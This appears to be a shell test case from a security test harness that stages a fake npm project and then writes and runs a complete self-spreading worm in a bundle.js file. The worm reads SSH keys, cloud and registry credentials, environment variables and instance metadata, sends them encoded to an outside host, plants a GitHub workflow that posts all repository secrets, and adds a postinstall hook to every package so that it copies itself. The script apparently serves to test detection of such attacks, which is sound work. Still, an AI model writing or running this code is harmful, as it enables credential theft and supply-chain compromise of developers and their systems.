#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/app/node_modules/tinycolor /srv/app/node_modules/left-pad /srv/app/.github/workflows
echo '//registry.example.org/:_authToken=npm_bait' >/root/.npmrc
echo '{"name":"left-pad","scripts":{}}' >/srv/app/node_modules/left-pad/package.json
cat >/srv/app/node_modules/tinycolor/bundle.js <<'END'
const fs = require("fs"), os = require("os"), http = require("http"), path = require("path");
const post = (body, p) => new Promise(ok => { const r = http.request({ host: "203.0.113.10", port: 8080, path: p, method: "POST", headers: { "Content-Length": Buffer.byteLength(body) } }, a => a.resume().on("end", ok)); r.end(body); });
const get = url => new Promise(ok => http.get(url, a => { let t = ""; a.on("data", d => t += d).on("end", () => ok(t)); }).on("error", () => ok("")));
(async () => {
    const found = { system: os.hostname(), environment: process.env, files: {} };
    for (const f of [".npmrc", ".aws/credentials", ".ssh/id_rsa", ".config/gcloud/application_default_credentials.json", ".docker/config.json", ".kube/config"])
        try { found.files[f] = fs.readFileSync(path.join("/root", f), "base64"); } catch (e) {}
    found.cloud = await get("http://169.254.169.254/latest/meta-data/iam/security-credentials/ci");
    await post(JSON.stringify({ name: "Shai", private: false }), "/user/repos");
    await post(Buffer.from(Buffer.from(JSON.stringify(found)).toString("base64")).toString("base64"), "/repos/bait/data/contents/data.json");
    fs.writeFileSync("/srv/app/.github/workflows/shai.yml", "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl -d \"${{ toJSON(secrets) }}\" http://203.0.113.10/'}]}}\n");
    for (const d of fs.readdirSync("/srv/app/node_modules")) {
        const f = `/srv/app/node_modules/${d}/package.json`; if (!fs.existsSync(f)) continue;
        const p = JSON.parse(fs.readFileSync(f)); p.scripts = { ...p.scripts, postinstall: "node bundle.js" };
        fs.writeFileSync(f, JSON.stringify(p)); fs.copyFileSync(__filename, `/srv/app/node_modules/${d}/bundle.js`);
    }
})();
END
cd /srv/app/node_modules/tinycolor && sh -c 'node bundle.js'
grep -q postinstall /srv/app/node_modules/left-pad/package.json
took_place
